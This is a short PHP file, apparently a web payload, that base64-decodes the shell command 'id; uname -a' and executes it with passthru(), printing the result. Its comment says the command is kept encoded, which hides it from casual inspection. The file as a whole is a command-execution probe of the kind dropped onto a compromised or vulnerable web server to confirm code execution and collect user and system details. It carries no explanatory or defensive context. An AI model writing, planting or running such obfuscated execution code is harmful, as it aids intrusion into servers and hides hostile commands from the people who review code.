<?php
// "id; uname -a" kept encoded
echo '<pre>';
passthru(base64_decode('aWQ7IHVuYW1lIC1h'));
echo '</pre>';
